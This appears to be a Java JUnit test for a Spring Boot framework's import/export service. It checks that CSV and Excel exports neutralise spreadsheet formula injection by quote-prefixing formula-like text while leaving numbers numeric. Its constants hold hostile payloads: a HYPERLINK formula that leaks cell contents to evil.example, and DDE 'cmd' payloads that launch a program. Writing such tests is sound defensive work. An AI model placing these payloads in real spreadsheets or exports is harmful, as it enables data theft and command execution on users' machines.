package uk.co.goldenthread.framework.io;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.context.ApplicationContext;
import org.springframework.transaction.annotation.Transactional;
import uk.co.goldenthread.SignIn;
import uk.co.goldenthread.framework.io.FrameworkImportService;
import uk.co.goldenthread.framework.io.ImportFile;
import uk.co.goldenthread.framework.io.ImportOptions;
import uk.co.goldenthread.framework.io.ProgressListener;
import uk.co.goldenthread.framework.io.Table;
import uk.co.goldenthread.framework.io.TestFiles;

/** Text that a spreadsheet would run as a formula leaves the framework export as text; numbers stay numbers. */
@SpringBootTest
@Transactional
class FormulaSafeExportTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")";
    private static final String PLUS = "+1+cmd|' /C calc'!A0";
    private static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String MINUS = "-2+3+cmd|' /C calc'!A0";

    @Autowired
    ApplicationContext context;
    @Autowired
    FrameworkImportService imports;

    @BeforeEach
    void signIn() {
        SignIn.as(context, "priya.shah");
        Map<String, String> files = TestFiles.unzip(imports.exportCsvZip());
        files.put("measures.csv", edited(files.get("measures.csv"), Map.of("title", HYPERLINK, "definition", PLUS,
                "data source", AT, "notes", MINUS)));
        files.put("comparators.csv", "measure,comparator,period,value\r\nFIN01,England average,2018/19,-1.5\r\n");
        var problems = imports.preview(List.of(new ImportFile("hostile.zip", TestFiles.zip(files))),
                ImportOptions.DEFAULT, ProgressListener.NONE).problems();
        assertThat(problems).isEmpty();
        imports.apply(List.of(new ImportFile("hostile.zip", TestFiles.zip(files))), ImportOptions.DEFAULT,
                ProgressListener.NONE);
    }

    @AfterEach
    void signOut() {
        SignIn.out();
    }

    @Test
    void theCsvExportPutsAnApostropheBeforeFormulaLikeTextAndLeavesNumbersAlone() {
        Map<String, String> files = TestFiles.unzip(imports.exportCsvZip());
        CSVRecord fin01 = records(files.get("measures.csv")).stream().filter(r -> r.get("code").equals("FIN01"))
                .findFirst().orElseThrow();
        assertThat(fin01.get("title")).isEqualTo("'" + HYPERLINK);
        assertThat(fin01.get("definition")).isEqualTo("'" + PLUS);
        assertThat(fin01.get("data source")).isEqualTo("'" + AT);
        assertThat(fin01.get("notes")).isEqualTo("'" + MINUS);
        assertThat(records(files.get("comparators.csv"))).anySatisfy(r -> assertThat(r.get("value")).isEqualTo("-1.5"));
    }

    @Test
    void theExcelExportKeepsFormulaLikeTextAsQuotePrefixedTextAndNumbersAsNumbers() throws IOException {
        try (var workbook = new XSSFWorkbook(new ByteArrayInputStream(imports.exportXlsx()))) {
            Sheet measures = workbook.getSheet("Measures");
            Row fin01 = rowWith(measures, "FIN01");
            Cell title = fin01.getCell(Table.MEASURES.columns().indexOf("title"));
            assertThat(title.getCellType()).isEqualTo(CellType.STRING);
            assertThat(title.getStringCellValue()).isEqualTo(HYPERLINK);
            assertThat(title.getCellStyle().getQuotePrefixed()).isTrue();
            for (String column : List.of("definition", "data source", "notes")) {
                assertThat(fin01.getCell(Table.MEASURES.columns().indexOf(column)).getCellStyle().getQuotePrefixed())
                        .as(column).isTrue();
            }
            assertThat(fin01.getCell(Table.MEASURES.columns().indexOf("code")).getCellStyle().getQuotePrefixed())
                    .isFalse();
            Cell value = rowWith(workbook.getSheet("Comparators"), "FIN01").getCell(3);
            assertThat(value.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(value.getNumericCellValue()).isEqualTo(-1.5);
        }
    }

    @Test
    void bothExportsImportAgainAsTheSameTextSoARoundTripChangesNothing() {
        assertThat(imports.preview(List.of(new ImportFile("export.zip", imports.exportCsvZip())), ImportOptions.DEFAULT,
                ProgressListener.NONE).changesNothing()).isTrue();
        assertThat(imports.preview(List.of(new ImportFile("export.xlsx", imports.exportXlsx())), ImportOptions.DEFAULT,
                ProgressListener.NONE).changesNothing()).isTrue();
    }

    private static Row rowWith(Sheet sheet, String firstCell) {
        for (Row row : sheet) {
            if (row.getCell(0) != null && firstCell.equals(row.getCell(0).getStringCellValue())) {
                return row;
            }
        }
        throw new AssertionError("no row " + firstCell + " on " + sheet.getSheetName());
    }

    private static List<CSVRecord> records(String csv) {
        try (var parser = CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(csv.replace("\uFEFF",
                "")))) {
            return parser.getRecords();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String edited(String csv, Map<String, String> fin01) {
        List<CSVRecord> records = records(csv);
        var out = new StringWriter();
        try (var printer = new CSVPrinter(out, CSVFormat.RFC4180)) {
            printer.printRecord(Table.MEASURES.columns());
            for (CSVRecord record : records) {
                List<String> values = new ArrayList<>();
                for (String column : Table.MEASURES.columns()) {
                    boolean edit = record.get("code").equals("FIN01") && fin01.containsKey(column);
                    values.add(edit ? fin01.get(column) : record.get(column));
                }
                printer.printRecord(values);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toString();
    }
}
